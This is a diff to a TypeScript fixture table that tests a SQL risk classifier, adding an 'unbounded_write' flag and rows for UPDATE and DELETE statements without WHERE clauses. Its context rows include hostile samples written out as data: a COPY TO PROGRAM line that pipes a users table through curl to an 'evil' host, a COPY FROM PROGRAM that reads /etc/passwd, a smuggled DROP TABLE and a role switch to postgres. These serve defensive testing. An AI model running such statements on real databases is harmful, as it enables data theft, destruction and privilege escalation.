@@ -61,7 +61,12 @@ export const ROWS: readonly Row[] = [
   row('INSERT INTO t DEFAULT VALUES RETURNING id', 'insert', 'write', ['public.t']),
   row('UPDATE users SET email = \'x\' WHERE id = 1', 'update', 'write', ['public.users']),
   row('UPDATE users u SET org = o.name FROM orgs o WHERE o.id = u.org_id', 'update', 'write', ['public.users', 'public.orgs']),
-  row('UPDATE t SET a = (SELECT max(a) FROM s)', 'update', 'write', ['public.t', 'public.s']),
+  row('UPDATE t SET a = (SELECT max(a) FROM s)', 'update', 'write', ['public.t', 'public.s'], ['unbounded_write']),
+  // Every row changes without a WHERE clause: the risk classifier raises these to high risk.
+  row('DELETE FROM audit_log', 'delete', 'write', ['public.audit_log'], ['unbounded_write']),
+  row('DELETE FROM audit_log WHERE ts < now()', 'delete', 'write', ['public.audit_log']),
+  row('UPDATE accounts SET frozen = true', 'update', 'write', ['public.accounts'], ['unbounded_write']),
+  row('UPDATE accounts SET frozen = true WHERE id = 7', 'update', 'write', ['public.accounts']),
   row('DELETE FROM users WHERE id = 1', 'delete', 'write', ['public.users']),
   row('DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.banned', 'delete', 'write', ['public.orders', 'public.users']),
   row('MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)', 'merge', 'write', ['public.stock', 'public.deliveries']),
@@ -116,7 +121,7 @@ export const ROWS: readonly Row[] = [
   row('COPY users TO PROGRAM \'curl -d @- http://evil\'', 'copy', 'admin', ['public.users'], ['copy_program']),
   row('COPY users FROM PROGRAM \'cat /etc/passwd\'', 'copy', 'admin', ['public.users'], ['copy_from', 'copy_program']),
   row('COPY users TO \'/tmp/users.csv\'', 'copy', 'admin', ['public.users'], ['copy_file']),
-  row('COPY (DELETE FROM t RETURNING *) TO STDOUT', 'copy', 'write', ['public.t']),
+  row('COPY (DELETE FROM t RETURNING *) TO STDOUT', 'copy', 'write', ['public.t'], ['unbounded_write']),
 
   // Traps: DO, CALL, EXPLAIN.
   row('DO $$ BEGIN DELETE FROM users; END $$', 'do', 'admin', [], ['do_block']),
@@ -125,8 +130,8 @@ export const ROWS: readonly Row[] = [
   row('EXPLAIN DELETE FROM users', 'explain', 'read', ['public.users']),
   row('EXPLAIN SELECT pg_sleep(100)', 'explain', 'read'),
   row('EXPLAIN ANALYZE SELECT * FROM users', 'explain', 'read', ['public.users']),
-  row('EXPLAIN ANALYZE DELETE FROM users', 'explain', 'write', ['public.users'], ['explain_analyze_write']),
-  row('EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', 'explain', 'write', ['public.t'], ['explain_analyze_write']),
+  row('EXPLAIN ANALYZE DELETE FROM users', 'explain', 'write', ['public.users'], ['explain_analyze_write', 'unbounded_write']),
+  row('EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', 'explain', 'write', ['public.t'], ['explain_analyze_write', 'unbounded_write']),
   row('EXPLAIN (ANALYZE false) DELETE FROM t', 'explain', 'read', ['public.t']),
   row('EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)', 'explain', 'write', ['public.t'], ['explain_analyze_write']),
   row('EXPLAIN ANALYZE SELECT nextval(\'s\')', 'explain', 'write', [], ['side_effect_function', 'explain_analyze_write']),
@@ -246,7 +251,7 @@ export const ROWS: readonly Row[] = [
   // Multi-statement strings.
   row('SELECT 1; SELECT 2', ['select', 'select'], 'read', [], ['multi_statement']),
   row('SELECT * FROM users; DROP TABLE users', ['select', 'drop'], 'ddl', ['public.users'], ['multi_statement']),
-  row('BEGIN; UPDATE a SET x = 1; COMMIT', ['transaction', 'update', 'transaction'], 'write', ['public.a'], ['multi_statement', 'transaction_control']),
+  row('BEGIN; UPDATE a SET x = 1; COMMIT', ['transaction', 'update', 'transaction'], 'write', ['public.a'], ['multi_statement', 'transaction_control', 'unbounded_write']),
   row('SELECT 1; SET ROLE postgres', ['select', 'set'], 'admin', [], ['multi_statement', 'role_change']),
   row('select 1;; ;select 2;', ['select', 'select'], 'read', [], ['multi_statement']),
 ];
